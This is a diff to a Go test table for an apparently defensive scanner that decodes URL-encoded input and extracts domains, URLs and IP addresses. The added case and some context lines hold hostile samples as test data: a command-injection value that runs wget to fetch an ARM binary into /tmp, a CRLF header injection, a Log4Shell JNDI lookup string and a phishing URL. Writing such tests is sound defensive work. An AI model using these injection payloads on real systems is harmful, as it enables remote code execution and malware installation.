@@ -14,6 +14,8 @@ func TestScanEncodingResidue(t *testing.T) {
 		{"a%2.b.evil.com 100%decent.com", []string{"dns 2.b.evil.com", "dns decent.com"}},
 		// a URL encoded whole is decoded once; an unencoded '&' ends it
 		{"url=https%3A%2F%2Flogin-verify.top%2Fowa%2F&lang=en", []string{"url https://login-verify.top/owa/"}},
+		{"country=$(wget%20http%3A%2F%2F194.38.20.199%2Fbins%2Farm7%20-O%20/tmp/a) Referer%3a%20http%3a%2f%2fseo.evil.xyz%2fr%3fa%3d1%0d%0aUser-Agent", []string{
+			"url http://194.38.20.199/bins/arm7", "url http://seo.evil.xyz/r?a=1"}},
 		{"q=%7B%22url%22%3A%22http%3A%2F%2F77.91.68.52%2Fx.jsp%22%7D q=%24%7Bjndi%3Aldap%3A%2F%2F45.155.205.233%3A1389%2FExploit%7D", []string{
 			"url http://77.91.68.52/x.jsp", "url ldap://45.155.205.233:1389/Exploit unsupported-scheme", "ipv4 45.155.205.233"}},
 		// ...inside a URL too: a redirector's or an OAuth request's target
